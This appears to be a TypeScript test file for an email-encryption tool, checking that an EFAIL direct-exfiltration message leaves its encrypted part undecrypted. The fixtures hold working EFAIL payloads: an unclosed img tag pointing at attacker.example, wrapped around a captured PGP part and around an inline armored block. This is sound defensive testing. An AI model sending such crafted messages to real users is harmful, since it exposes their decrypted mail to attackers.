/**
 * EFAIL direct exfiltration (Poddebniak et al., 2018): an attacker wraps a captured encrypted
 * part between their own plaintext parts (an unclosed <img src="https://evil/? before it) and
 * sends it to the victim. A client that decrypts the part in place and renders the whole
 * multipart as one HTML document sends the plaintext to the attacker. Waxseal decrypts only
 * messages that are encrypted as a whole; this one stays encrypted and is labelled so.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseMime } from '../../src/mime/tree.js';
import { cast, header, keptAsReceived, receive, sealed } from './openpgp-fixtures.js';

test('an encrypted part among attacker plaintext parts is not decrypted', async () => {
  const c = await cast();
  const captured = await sealed(c, 'the secret is 42');
  const tree = parseMime(captured);
  const armored = captured.subarray(tree.children[1]!.bodyStart, tree.children[1]!.end).toString('latin1');
  const attack = Buffer.from(
    [
      'From: Alice <alice@example.org>',
      'To: Bob <bob@example.net>',
      'Subject: Re: plan',
      'Content-Type: multipart/mixed; boundary="evil"',
      '',
      '--evil',
      'Content-Type: text/html',
      '',
      '<img src="https://attacker.example/?',
      '--evil',
      'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="inner"',
      '',
      '--inner',
      'Content-Type: application/pgp-encrypted',
      '',
      'Version: 1',
      '--inner',
      'Content-Type: application/octet-stream',
      '',
      armored.trimEnd(),
      '--inner--',
      '--evil',
      'Content-Type: text/html',
      '',
      '">',
      '--evil--',
      '',
    ].join('\r\n'),
    'latin1',
  );
  const res = await receive(c, attack);
  assert.equal(res.encryption, 'none');
  assert.match(header(res.raw, 'x-waxseal-encryption')[0]!, /^none; reason="an encrypted part sits among unencrypted parts; it was not decrypted"$/);
  assert.ok(!res.raw.includes('the secret is 42'), 'the plaintext never appears');
  assert.ok(keptAsReceived(res.raw, attack), 'the message is kept as received');

  // The same for an inline armored block placed between attacker text in one body.
  const inline = Buffer.from(`From: alice@example.org\r\nTo: bob@example.net\r\nSubject: x\r\n\r\n<img src="https://attacker.example/?\r\n${armored.trimEnd()}\r\n">\r\n`, 'latin1');
  const res2 = await receive(c, inline);
  assert.equal(res2.encryption, 'none');
  assert.ok(!res2.raw.includes('the secret is 42'));
});
